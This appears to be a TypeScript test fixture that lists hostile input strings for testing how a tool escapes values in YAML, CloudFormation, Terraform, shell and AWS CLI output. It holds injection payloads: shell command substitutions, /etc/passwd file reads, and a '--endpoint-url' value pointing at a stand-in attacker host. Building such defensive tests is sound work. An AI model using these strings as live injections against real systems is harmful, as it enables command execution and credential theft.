import { hostileTexts } from '../../../../support/hostileTexts.ts';

/** What an attacker may have put into a log, where it is characters. */
export const loggedValues: readonly string[] = hostileTexts.filter((text) => !/\p{Surrogate}/u.test(text));

/** Texts that mean something to YAML, CloudFormation, Terraform, a shell or the AWS CLI. */
export const syntaxValues: readonly string[] = [
  // YAML, 1.1 and 1.2.
  ...[
    'yes',
    'No',
    'on',
    'y',
    'true',
    '0o17',
    '012',
    '1e3',
    '1.0e+21',
    '0x1F',
    '1_000',
    '12:30:45',
    '2026-11-01',
    '.inf',
  ],
  ...[
    '2026-11-01T00:00:00Z',
    '<<',
    '=',
    'a: b',
    'a:',
    ': a',
    'a #b',
    '#a',
    '[a',
    '{a',
    '|',
    '>-',
    '&a',
    '!a b',
    '...',
    '- a',
  ],
  ...[
    "''",
    '""',
    '\n',
    '\n\n',
    ' \n',
    'a\n',
    'a\n\n',
    '\na',
    '  a\n b',
    '\ta\n\tb',
    'a\r\nb',
    'a\n---\nb',
    'a \n b ',
    '?',
    '@a',
    '`a`',
  ],
  // CloudFormation.
  ...['!Ref Topic', '!Sub "${AWS::AccountId}"', 'Fn::Sub', 'Ref', '${AWS::Region}', '{"Ref": "Topic"}', '{{resolve}}'],
  // Terraform.
  ...[
    '${aws_sns_topic.topic.arn}',
    '$${x}',
    '$$${x}',
    '%{ if true }x%{ endif }',
    '%%{x}',
    '$',
    '%',
    '${',
    '%{',
    '\\${x}',
    '"${x}"',
  ],
  ...['<<EOT\na\nEOT', 'join("\\n", [])', '${file("/etc/passwd")}', '$\n{x}', '\\', '\\\\', '\\"', '\\n', '\\u0024{x}'],
  // A shell.
  ...[
    '$(touch /tmp/apirunbook-was-here)',
    '`id`',
    "'; id; '",
    '"; id; "',
    "'",
    "\\'",
    '$HOME',
    '!!',
    '~',
    '*',
    'a && b',
    'a\nid\n',
    '%s%n',
  ],
  // The AWS CLI and JMESPath.
  ...[
    'file:///etc/passwd',
    'fileb:///etc/passwd',
    'https://example.com/x',
    '@file',
    '-rf',
    '--endpoint-url=http://attacker.example',
  ],
  ...['`"x"`] | [0]', '`]', "'x'", 'a,b=c', 'Key=a,Value=b'],
  '\u0000',
  '\u007f\u0085\u2028\ufeff\ufffe',
  'é 漢 😀 \u{e0041}',
];

export const hostileValues: readonly string[] = [...loggedValues, ...syntaxValues];

/** Not in Unicode's Normalization Form C. */
export const decomposed = 'e\u0301';

/** What each place of a plan holds in a plan made with `markedPlan`. */
export const marker = 'MARKER-VALUE';
